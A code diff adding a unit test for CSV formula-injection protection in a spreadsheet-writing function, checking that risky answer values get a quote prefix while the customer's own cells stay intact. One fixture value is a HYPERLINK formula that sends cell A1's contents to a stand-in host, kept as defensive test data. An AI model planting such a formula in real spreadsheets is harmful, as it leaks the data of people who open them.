@@ -105,6 +105,22 @@ describe('writeSpreadsheet (csv)', () => {
     expect(parseCsv(written).encoding).toBe('windows-1252');
   });
 
+  it("neutralises the answers it writes that a spreadsheet would run, and leaves the customer's own cells", async () => {
+    // Prepare: the customer's own sheet has a formula-looking cell of its own.
+    const original = strToU8('Ref,Question,Answer\r\n=1+1,Do you log access?,\r\n2,Do you encrypt?,\r\n');
+    // Act
+    const written = await writeSpreadsheet(original, 'csv', [
+      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: '=HYPERLINK("http://x/?"&A1,"Click")' },
+      { sheetIndex: 0, rowNumber: 3, columnNumber: 3, value: '+61 2 5550 1234 or @security' },
+    ]);
+    // Assess
+    expect(parseCsv(written).rows).toEqual([
+      ['Ref', 'Question', 'Answer'],
+      ['=1+1', 'Do you log access?', `'=HYPERLINK("http://x/?"&A1,"Click")`],
+      ['2', 'Do you encrypt?', "'+61 2 5550 1234 or @security"],
+    ]);
+  });
+
   it('keeps any grid through write and read (property)', async () => {
     const cell = fc.string({ maxLength: 12 }).map((s) => s.replace(/\r/g, ''));
     await fc.assert(
@@ -121,7 +137,7 @@ describe('writeSpreadsheet (csv)', () => {
             value: r[2],
           }));
           const back = parseCsv(await writeSpreadsheet(original, 'csv', writes)).rows;
-          expect(back).toEqual(rows.map((r, i) => (i === 0 ? r : [r[0], r[1], grid[i - 1][2]])));
+          expect(back).toEqual(rows.map((r, i) => (i === 0 ? r : [r[0], r[1], neutralise(grid[i - 1][2])])));
         },
       ),
       { numRuns: 60 },
